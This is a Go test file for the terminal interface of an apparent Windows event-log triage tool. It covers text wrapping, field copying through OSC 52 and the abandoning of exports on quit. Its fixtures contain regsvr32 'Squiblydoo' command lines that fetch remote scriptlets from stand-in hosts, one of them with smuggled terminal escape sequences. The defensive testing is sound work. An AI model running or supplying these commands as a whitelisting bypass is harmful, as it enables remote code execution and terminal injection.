package tui

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/evtriage/evtriage/internal/golden"
	"github.com/evtriage/evtriage/internal/outfile"
	"github.com/evtriage/evtriage/rules"
)

// wrapFixture is fixture() with an indicator full of hyphens on the first
// finding's process and a long rule description, shown at w×h.
func wrapFixture(t *testing.T, w, h int) Model {
	r := fixture()
	reg := r.Findings[0].Process
	reg.CommandLine = "regsvr32.exe /s /n /u /i:https://cdn-update.example-cdn.net/s/inv-2026-11-22.sct scrobj.dll"
	r.Findings[0].Rule = &rules.Rule{ID: ruleSeed.ID, Title: ruleSeed.Title, Level: ruleSeed.Level, Path: ruleSeed.Path, Line: 1,
		Description: "Detects the execution of regsvr32 with a scriptlet fetched over HTTP or FTP (Squiblydoo), a\n" +
			"well-known application-whitelisting bypass.\n\nSee also: the CAR-2019-04-002 analytics."}
	return loaded(t, r, w, h)
}

// TestIndicatorsWrapWhole: the detail pane wraps values at spaces, never
// at the hyphens of a URL, and a description on words in the value
// column (golden, 80×24, scrolled to the process).
func TestIndicatorsWrapWhole(t *testing.T) {
	m := wrapFixture(t, 80, 24)
	all := ansi.Strip(strings.Join(m.detail.lines, "\n"))
	if !strings.Contains(all, "/i:https://cdn-update.example-cdn.net/s/inv-2026-11-22.sct") {
		t.Errorf("the URL is broken:\n%s", all)
	}
	if !strings.Contains(all, "  Description        Detects the execution of regsvr32 with a scriptlet fetched\n                     over HTTP") {
		t.Errorf("the description does not wrap on words in the value column:\n%s", all)
	}
	m, _ = drive(t, m, press("J", "J")...)
	golden.Assert(t, "screen_detail_wrap_80x24.txt", []byte(screen(m)))
}

// TestFieldSelection: } and { move a field selection through the detail
// (scrolling to it); y copies its value through OSC 52 (as the screen
// shows it: evidence escapes stay escaped), or says why not; Y writes it
// to a file.
func TestFieldSelection(t *testing.T) {
	m := loaded(t, fixture(), 120, 40)
	m.cfg.Clipboard = true
	m, _ = drive(t, m, press("jjjj")...) // the hostile regsvr32's finding
	m, _ = drive(t, m, press("}")...)
	if f, ok := m.detail.selected(); !ok || f.label != "Rule ID" {
		t.Fatalf("} selected %+v, want the first field", f)
	}
	for range 30 {
		if f, _ := m.detail.selected(); f.label == "CommandLine" {
			break
		}
		m, _ = drive(t, m, press("}")...)
	}
	f, _ := m.detail.selected()
	if f.label != "CommandLine" || !strings.Contains(screen(m), "›") {
		t.Fatalf("selected %q; screen:\n%s", f.label, screen(m))
	}
	// y: the copy goes through the terminal, made safe.
	next, cmd := m.Update(press("y")[0])
	m = next.(Model)
	if cmd == nil {
		t.Fatalf("y gave no command: %q", m.message)
	}
	msg := cmd()
	if got := fmt.Sprintf("%T", msg); got != "tea.setClipboardMsg" {
		t.Fatalf("y sent %s", got)
	}
	if got := fmt.Sprint(msg); got != `regsvr32.exe /s /i:http://evil.example/a.sct \x1b]0;pwned\x07\x1b[2J scrobj.dll` {
		t.Errorf("copied %q", got)
	}
	if !strings.Contains(m.message, "copied CommandLine") {
		t.Errorf("message %q", m.message)
	}
	// The selection follows the label to the next finding.
	m, _ = drive(t, m, press("k")...)
	if f, _ := m.detail.selected(); f.label != "CommandLine" {
		t.Errorf("after moving, %q is selected", f.label)
	}
	// Off (over SSH): y says so and what to do instead.
	m.cfg.Clipboard = false
	next, cmd = m.Update(press("y")[0])
	m = next.(Model)
	if cmd != nil || !strings.Contains(m.message, "--clipboard osc52") || !strings.Contains(m.message, "Y writes") {
		t.Errorf("y with the clipboard off: %q", m.message)
	}
	// Y writes the value to a file.
	m, _ = drive(t, m, press("Y")...)
	path := filepath.Join(m.cfg.ExportDir, "evtriage-value-commandline-20190512-183505.txt")
	b, err := os.ReadFile(path)
	if err != nil || string(b) != "cmd.exe /c calc.exe\n" {
		t.Fatalf("Y wrote %q (%v); message %q", b, err, m.message)
	}
	if !strings.Contains(m.message, path) {
		t.Errorf("message %q does not name %s", m.message, path)
	}
	// { goes back, and with no field selected y asks for one.
	m, _ = drive(t, m, press("{")...)
	if f, _ := m.detail.selected(); f.label == "CommandLine" {
		t.Error("{ did not move")
	}
	m2 := loaded(t, fixture(), 120, 40)
	m2, _ = drive(t, m2, press("y")...)
	if !strings.Contains(m2.message, "{ or }") {
		t.Errorf("y without a selection: %q", m2.message)
	}
}

// TestQuitWhileWriting: q while a file is being written waits for it and
// says so; the screen ends once it is written, or at a second q, which
// abandons it: Run's abandon removes its temporary file.
func TestQuitWhileWriting(t *testing.T) {
	for _, second := range []bool{false, true} {
		m := loaded(t, fixture(), 120, 40)
		dir := m.cfg.ExportDir
		m.out.start()
		f, err := outfile.CreateUnique(dir, func(n int) string { return fmt.Sprintf("x-%d.json", n) }, 0o600)
		if err != nil {
			t.Fatal(err)
		}
		m.out.add(f, "an export of 7 findings")
		m, quit := drive(t, m, press("q")...)
		if quit || !strings.Contains(m.message, "q again abandons") {
			t.Fatalf("q while writing: quit %v, message %q", quit, m.message)
		}
		if second {
			_, quit = drive(t, m, press("q")...)
			if !quit {
				t.Fatal("a second q did not quit")
			}
			m.out.done(f)
			m.out.wg.Add(1) // as if the command still ran: abandon waits for it
			go func() { defer m.out.wg.Done() }()
			if got := m.out.abandon(); len(got) != 0 {
				t.Errorf("abandoned %v after done", got)
			}
			continue
		}
		if _, err := f.Write([]byte("{}")); err != nil {
			t.Fatal(err)
		}
		if err := f.Commit(); err != nil {
			t.Fatal(err)
		}
		m.out.done(f)
		_, quit = drive(t, m, exportedMsg{path: f.Name(), n: 7})
		if !quit {
			t.Error("the screen did not end once the file was written")
		}
	}
}

// TestAbandon: files still open when the screen ends are discarded (no
// temporary file left), and one created afterwards is discarded at once.
func TestAbandon(t *testing.T) {
	dir := t.TempDir()
	w := newWriting()
	w.start()
	f, err := outfile.CreateUnique(dir, func(n int) string { return fmt.Sprintf("a-%d.json", n) }, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	w.add(f, "an export of 3 findings")
	go func() {
		f.Write([]byte("partial"))
		w.done(f)
	}()
	got := w.abandon()
	if len(got) > 1 || (len(got) == 1 && got[0] != "an export of 3 findings") {
		t.Errorf("abandoned %q", got)
	}
	_, err = writeFile(w, dir, "late", func(n int) string { return fmt.Sprintf("late-%d.json", n) },
		func(o *outfile.File) error { _, err := o.Write([]byte("x")); return err })
	if err == nil {
		t.Error("a file written after abandon was committed")
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 0 {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		t.Errorf("left in the export folder: %v", names)
	}
}

// TestRunAbandonsOnCancel runs the program and ends it as a signal does
// (runDefault cancels the context) while an export is being written: Run
// says it was abandoned and no temporary file is left.
func TestRunAbandonsOnCancel(t *testing.T) {
	dir := t.TempDir()
	m := New(Config{Title: "t", ExportDir: dir})
	m.out.start()
	f, err := outfile.CreateUnique(dir, func(n int) string { return fmt.Sprintf("x-%d.json", n) }, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	m.out.add(f, "an export of 7 findings")
	go func() {
		// the export command: it ends once its file is aborted
		defer m.out.done(f)
		for !f.Aborted() {
			runtime.Gosched()
		}
	}()
	ctx, cancel := context.WithCancel(context.Background())
	out := &syncBuffer{}
	inR, inW := io.Pipe()
	defer inW.Close()
	ended := make(chan error, 1)
	go func() { ended <- runProgram(ctx, m, inR, out, tea.WithWindowSize(80, 24), tea.WithoutSignals()) }()
	out.waitFor(t, "the first frame", nil, time.After(30*time.Second), func() bool { return strings.Contains(out.String(), "evtriage") })
	cancel()
	err = <-ended
	if !errors.Is(err, ErrAbandoned) || !strings.Contains(err.Error(), "an export of 7 findings") {
		t.Errorf("Run: %v, want the export abandoned", err)
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 0 {
		t.Errorf("%d files left in the export folder", len(ents))
	}
}
